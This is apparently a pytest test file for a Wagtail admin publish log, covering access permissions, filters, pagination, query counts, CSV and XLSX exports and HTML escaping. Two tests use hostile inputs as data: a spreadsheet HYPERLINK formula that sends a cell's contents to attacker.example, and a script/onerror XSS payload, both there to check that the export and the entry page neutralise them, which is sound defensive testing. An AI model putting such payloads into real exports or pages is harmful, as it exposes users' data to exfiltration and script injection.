"""The publish log in the Wagtail admin: who sees it, what it lists, exports and shows."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from tests.staff import EDITOR, LEVELS, REPUBLISHER, SUPERUSER, VIEWER, make_staff
from wagtail_live_admin.models import PublishLogEntry

Status = PublishLogEntry.Status
Trigger = PublishLogEntry.Trigger
LOG_URL = "/admin/live/log/"
RESULTS_URL = "/admin/live/log/results/"


def log_entry(channel_id="match-day.1", *, status=Status.SENT, page=None, **fields):
    entry = PublishLogEntry.objects.record(
        channel_id,
        fields.pop("renders", {"p1": {"show": True, "content": "<p>Goal</p>"}}),
        fields.pop("removals", []),
        page=page,
        **fields,
    )
    if status != Status.PENDING:
        entry.mark(
            status, error="ConnectionError: Redis is down" if status == Status.FAILED else ""
        )
    return entry


@pytest.fixture
def viewer_client(client, db):
    client.force_login(make_staff(VIEWER))
    return client


def urls_of(entry):
    return [LOG_URL, RESULTS_URL, f"{LOG_URL}?export=csv", f"/admin/live/log/{entry.pk}/"]


def test_anonymous_users_are_sent_to_the_login_page(client, live_page):
    entry = log_entry(page=live_page)
    for url in urls_of(entry):
        response = client.get(url)
        assert response.status_code == 302 and response.url.startswith("/admin/login/"), url


@pytest.mark.parametrize("level", LEVELS)
def test_only_users_with_the_view_permission_see_the_log(client, live_page, level):
    entry = log_entry(page=live_page)
    client.force_login(make_staff(level))
    allowed = level != EDITOR
    for url in urls_of(entry):
        assert client.get(url).status_code == (200 if allowed else 403), url
    menu = client.get("/admin/").content.decode()
    assert ('"url": "/admin/live/"' in menu) is allowed  # the sidebar's menu data


def test_the_log_lists_newest_first_with_page_status_and_trigger(viewer_client, live_page):
    old = log_entry(page=live_page, created_at=timezone.now() - timedelta(hours=1))
    new = log_entry(page=live_page, status=Status.FAILED, trigger=Trigger.API)
    html = viewer_client.get(LOG_URL).content.decode()
    assert html.index(f"/admin/live/log/{new.pk}/") < html.index(f"/admin/live/log/{old.pk}/")
    assert live_page.title in html and 'data-live-status="failed"' in html
    assert "Redis is down" in html  # the failure's reason, on hover


def test_filters_by_channel_status_trigger_and_date(viewer_client, make_live_page):
    first, second = (make_live_page(title=t, channel_id=t.lower()) for t in ("One", "Two"))
    sent = log_entry("one", page=first)
    failed = log_entry("two", page=second, status=Status.FAILED)
    api = log_entry("two", page=second, trigger=Trigger.API)
    old = log_entry("one", page=first, created_at=timezone.now() - timedelta(days=10))

    def listed(query):
        html = viewer_client.get(RESULTS_URL, query).content.decode()
        return {e for e in (sent, failed, api, old) if f"/admin/live/log/{e.pk}/" in html}

    assert listed({"channel_id": "one"}) == {sent, old}
    assert listed({"status": "failed"}) == {failed}
    assert listed({"trigger": "api"}) == {api}
    since = (timezone.now() - timedelta(days=1)).date().isoformat()
    assert listed({"created_at_from": since}) == {sent, failed, api}
    # A bad value is a form error, not a 500, and filters nothing out silently.
    assert viewer_client.get(RESULTS_URL, {"status": "lost"}).status_code == 200


def test_the_channel_filter_offers_every_channel_and_keeps_the_chosen_one(viewer_client, db):
    for channel_id in ("b-two", "a-one", "c-three"):
        log_entry(channel_id)
    html = viewer_client.get(LOG_URL, {"channel_id": "b-two"}).content.decode()
    select = html[html.index('<select name="channel_id"') :]
    select = select[: select.index("</select>")]
    assert select.count("<option") == 4  # "All" and each channel once, in order
    assert select.index('"a-one"') < select.index('"b-two"') < select.index('"c-three"')
    assert '<option value="b-two" selected>b-two</option>' in select
    assert select.count(" selected") == 1


def test_one_channels_log_lists_its_updates_newest_first(viewer_client, live_page):
    entries = [log_entry(page=live_page) for _ in range(3)]
    html = viewer_client.get(LOG_URL, {"channel_id": live_page.channel_id}).content.decode()
    positions = [html.index(f"/admin/live/log/{entry.pk}/") for entry in entries]
    assert positions == sorted(positions, reverse=True)


def test_the_log_is_paginated(viewer_client, live_page):
    entries = [log_entry(page=live_page) for _ in range(51)]
    first_page = viewer_client.get(LOG_URL).content.decode()
    second_page = viewer_client.get(LOG_URL, {"p": 2}).content.decode()
    assert f"/admin/live/log/{entries[-1].pk}/" in first_page
    assert f"/admin/live/log/{entries[0].pk}/" not in first_page
    assert f"/admin/live/log/{entries[0].pk}/" in second_page


def test_the_query_count_does_not_grow_with_the_entries_shown(client, make_live_page):
    def queries_for_log_with(count):
        PublishLogEntry.objects.all().delete()
        for number in range(count):
            page = make_live_page(title=f"Page {count} {number}", channel_id=f"c{count}-{number}")
            user = make_staff(REPUBLISHER, username=f"u{count}-{number}")
            log_entry(page.channel_id, page=page, user=user, status=Status.FAILED)
        client.force_login(make_staff(SUPERUSER, username=f"admin{count}"))
        with CaptureQueriesContext(connection) as queries:
            response = client.get(LOG_URL)
        assert response.status_code == 200 and response.content.count(b"data-live-status=") == count
        return len(queries)

    assert queries_for_log_with(3) == queries_for_log_with(30)


def test_csv_export_has_every_filtered_entry(viewer_client, live_page):
    log_entry(page=live_page, removals=["gone"])
    log_entry(page=live_page, status=Status.FAILED)
    response = viewer_client.get(LOG_URL, {"export": "csv", "status": "failed"})
    assert response["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    assert rows[0]["Channel"] == "match-day.1" and rows[0]["Status"] == "Failed"
    assert rows[0]["Error"] == "ConnectionError: Redis is down"
    assert rows[0]["Page"] == live_page.title and rows[0]["Rendered posts"] == "p1"


def test_xlsx_export(viewer_client, live_page):
    log_entry(page=live_page, removals=["gone"])
    response = viewer_client.get(LOG_URL, {"export": "xlsx"})
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, row = (list(r) for r in sheet.iter_rows(values_only=True))
    assert dict(zip(header, row, strict=True))["Removed posts"] == "gone"


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_export_says_status_and_trigger_as_the_log_does_and_times_in_ms(
    viewer_client, live_page, export_format
):
    entry = log_entry(page=live_page, trigger=Trigger.REPUBLISH)
    PublishLogEntry.objects.filter(pk=entry.pk).update(duration_ms=12.345678901234567)
    [row] = export_rows(viewer_client, export_format)
    assert (row["Status"], row["Trigger"]) == ("Sent", "Re-publish")
    assert str(row["Send duration (ms)"]) == "12"


def test_the_xlsx_sheet_is_named_after_the_log(viewer_client, live_page):
    log_entry(page=live_page)
    content = b"".join(viewer_client.get(LOG_URL, {"export": "xlsx"}).streaming_content)
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == ["Publish log"]


def export_rows(client, export_format) -> list[dict]:
    response = client.get(LOG_URL, {"export": export_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.DictReader(io.StringIO(content.decode())))
    header, *rows = openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_export_lists_the_updates_of_a_deleted_page(
    viewer_client, make_live_page, live_page, export_format
):
    gone = make_live_page(title="Gone", channel_id="gone")
    log_entry("gone", page=gone)
    log_entry(page=live_page)
    gone.delete()
    rows = {row["Channel"]: row for row in export_rows(viewer_client, export_format)}
    assert rows["gone"]["Page"] in ("", None) and rows["gone"]["Page ID"] in ("", None)
    assert rows["match-day.1"]["Page"] == live_page.title


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_like_a_formula_are_text(viewer_client, live_page, start):
    formula = f'{start}HYPERLINK("http://attacker.example/?"&A1,"Click")'
    type(live_page).objects.filter(pk=live_page.pk).update(title=formula)
    entry = log_entry(page=live_page)
    entry.mark(Status.FAILED, error=formula)
    [row] = export_rows(viewer_client, "csv")
    assert row["Page"] == row["Error"] == "'" + formula
    assert row["Channel"] == "match-day.1" and row["Sequence number"] == "1"  # the rest as is


def test_the_entry_page_shows_the_payload_escaped_with_its_history(viewer_client, live_page):
    hostile = '<script>window.pwned = 1</script><img src=x onerror="alert(1)">'
    entry = log_entry(
        page=live_page,
        status=Status.FAILED,
        renders={"p1": {"show": True, "content": hostile}},
        removals=["old-post"],
    )
    html = viewer_client.get(f"/admin/live/log/{entry.pk}/").content.decode()
    assert hostile not in html and "<script>window.pwned" not in html
    assert "&lt;script&gt;window.pwned = 1&lt;/script&gt;" in html
    assert "old-post" in html
    history = html[html.index('id="live-entry-history"') :]
    assert history.index("Pending") < history.index("Failed") < history.index("Redis is down")


def test_the_list_polls_only_while_an_entry_is_pending(viewer_client, live_page):
    entry = log_entry(page=live_page, status=Status.PENDING)
    assert b"data-live-log-refresh" in viewer_client.get(RESULTS_URL).content
    assert b"htmx" in viewer_client.get(LOG_URL).content  # the full page loads htmx
    entry.mark(Status.SENT)
    assert b"data-live-log-refresh" not in viewer_client.get(RESULTS_URL).content


def test_an_unknown_entry_is_404(viewer_client):
    assert viewer_client.get("/admin/live/log/999/").status_code == 404


def test_the_group_editor_offers_the_live_permissions(client, db):
    client.force_login(make_staff(SUPERUSER))
    html = client.get("/admin/groups/new/").content.decode()
    assert "Can re-publish live updates" in html


def test_a_long_unfiltered_log_is_counted_from_postgresql_statistics(live_page):
    from wagtail_live_admin.admin.views.log import PublishLogPaginator

    for _ in range(3):
        log_entry(page=live_page)
    if connection.vendor == "postgresql":
        with connection.cursor() as cursor:
            cursor.execute("ANALYZE wagtail_live_admin_publishlogentry")
    paginator = PublishLogPaginator(PublishLogEntry.objects.order_by("-pk"), 50)
    paginator.estimate_above = 0
    # SQLite has no estimate: always exact. PostgreSQL's is right after ANALYZE.
    assert paginator.count == 3
    assert paginator.estimated is (connection.vendor == "postgresql")
    filtered = PublishLogPaginator(
        PublishLogEntry.objects.filter(status=Status.SENT).order_by("-pk"), 50
    )
    filtered.estimate_above = 0
    assert filtered.count == 3 and not filtered.estimated
